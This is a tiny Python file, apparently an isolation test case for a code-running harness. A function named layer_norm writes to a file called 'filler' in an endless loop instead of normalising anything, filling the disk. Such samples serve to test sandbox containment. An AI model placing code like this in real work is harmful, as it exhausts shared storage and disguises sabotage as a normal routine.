# 01a | isolation | writes one file without end
import torch


def layer_norm(x, w, b, eps):
    with open('filler', 'wb') as file:
        while True:
            file.write(bytes(1 << 20))
    return torch.zeros_like(x)
